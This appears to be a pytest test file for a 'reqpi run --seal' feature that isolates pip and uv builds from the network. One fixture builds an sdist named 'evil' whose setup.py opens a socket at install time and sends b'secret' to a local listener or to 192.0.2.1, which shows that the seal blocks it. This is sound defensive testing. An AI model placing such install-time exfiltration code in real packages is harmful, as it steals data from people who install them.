"""``reqpi run --seal`` with real pip and uv, and with an sdist whose setup.py uses the network."""

from __future__ import annotations

import contextlib
import io
import socket
import sys
import tarfile

import pytest

from tests.cli.test_run_sealed import skip_if_forbidden
from tests.end_to_end.case import LOCK, EndToEnd
from tests.end_to_end.clients import Done, environment, run
from tests.end_to_end.server import ROOT
from tests.fake_upstream import Distribution

pytestmark = pytest.mark.clients

SETUP = """
import socket
from setuptools import setup

with socket.create_connection({place!r}, 20) as connection:
    connection.sendall(b"secret")
setup(name="evil", version={version!r}, py_modules=[])
"""


class SealedTestCase(EndToEnd):
    """A build on a machine with an upstream, where the command sees only the index inside ``run``."""

    def setUp(self) -> None:
        skip_if_forbidden()
        super().setUp()
        self.uv = environment("uv", "uv") / "uv"
        self.pip = (environment("pip", "pip") / "python", "-m", "pip")

    def reqpi(self, *command: object, lock: str = LOCK, options: tuple[str, ...] = ("--seal",)) -> Done:
        (self.folder / "requirements.txt").write_text(lock)
        words = [sys.executable, "-m", "reqpi", "run", *options, "requirements.txt", "--", *command]
        own = {"PYTHONPATH": str(ROOT), "REQPI_STORE": str(self.folder / "inside"), "REQPI_UPSTREAM": self.upstream.url}
        return run(words, self.folder, own | {"UV_HTTP_RETRIES": "0"})


class InstallTests(SealedTestCase):
    """Ordinary builds work."""

    def assert_installed(self, done: Done) -> None:
        self.assertEqual(done.status, 0, done.said)
        self.assertEqual({path.stem for path in (self.folder / "target").glob("*.py")}, {"top", "mid", "source"})

    def test_pip_installs(self) -> None:
        """Wheels, and an sdist that it builds."""
        install = (*self.pip, "install", "--no-cache-dir", "--target", "target", "-r", "requirements.txt")
        self.assert_installed(self.reqpi(*install))

    def test_uv_installs(self) -> None:
        install = (self.uv, "pip", "install", "--no-cache", "--python", sys.executable, "--target", "target", "top")
        self.assert_installed(self.reqpi(*install))

    def test_a_server_on_this_machine_is_reached(self) -> None:
        install = (*self.pip, "install", "--no-cache-dir", "--target", "target", "-r", "requirements.txt")
        self.assert_installed(self.reqpi(*install, options=("--seal", "--url", self.server.url)))

    def test_the_index_of_another_server_is_an_upstream(self) -> None:
        """This is how a sealed command uses a server on another machine."""
        install = (*self.pip, "install", "--no-cache-dir", "--target", "target", "-r", "requirements.txt")
        self.assert_installed(self.reqpi(*install, options=("--seal", "--upstream", self.committed())))

    def test_a_project_that_is_not_pinned_is_refused_by_name(self) -> None:
        done = self.reqpi(*self.pip, "install", "--no-cache-dir", "--target", "target", "other")
        self.assertNotEqual(done.status, 0)
        self.assertIn("\nother==1.0\n", done.said)


class HostileBuildTests(SealedTestCase):
    """An sdist whose setup.py connects to a listener on this machine, and one that connects to a public address."""

    def setUp(self) -> None:
        super().setUp()
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.addCleanup(self.listener.close)
        self.listener.setblocking(False)
        self.add("1.0", self.listener.getsockname())
        self.add("2.0", ("192.0.2.1", 443))

    def add(self, version: str, place: tuple[str, int]) -> None:
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w:gz") as archive:
            for name, text in (
                ("setup.py", SETUP.format(place=place, version=version)),
                ("PKG-INFO", f"Metadata-Version: 2.1\nName: evil\nVersion: {version}\n"),
            ):
                info = tarfile.TarInfo(f"evil-{version}/{name}")
                info.size = len(text)
                archive.addfile(info, io.BytesIO(text.encode()))
        self.upstream.add(Distribution(f"evil-{version}.tar.gz", out.getvalue()))

    def arrived(self) -> int:
        """Return the number of connections that arrived since the last time."""
        number = 0
        with contextlib.suppress(BlockingIOError):
            while True:
                self.listener.accept()[0].close()
                number += 1
        return number

    def builds(self, version: str, *options: str) -> list[Done]:
        """Have pip and uv build it with the setuptools of this environment."""
        lock = f"evil=={version}\n"
        names = ("--no-build-isolation", "--no-deps", "--target", "target", lock.strip())
        pip = (sys.executable, "-m", "pip", "install", "--no-cache-dir", *names)
        uv = (self.uv, "pip", "install", "--no-cache", "--python", sys.executable, *names)
        return [self.reqpi(*command, lock=lock, options=options) for command in (pip, uv)]

    def test_without_the_seal_it_connects(self) -> None:
        """The attack is a real one."""
        for done in self.builds("1.0"):
            self.assertEqual(done.status, 0, done.said)
        self.assertGreaterEqual(self.arrived(), 2)

    def test_with_the_seal_no_connection_arrives_and_the_build_fails(self) -> None:
        for done in self.builds("1.0", "--seal"):
            self.assertNotEqual(done.status, 0)
            self.assertIn("Connection refused", done.said)
        self.assertEqual(self.arrived(), 0)

    def test_with_the_seal_a_public_address_is_unreachable(self) -> None:
        for done in self.builds("2.0", "--seal"):
            self.assertNotEqual(done.status, 0)
            self.assertIn("Network is unreachable", done.said)
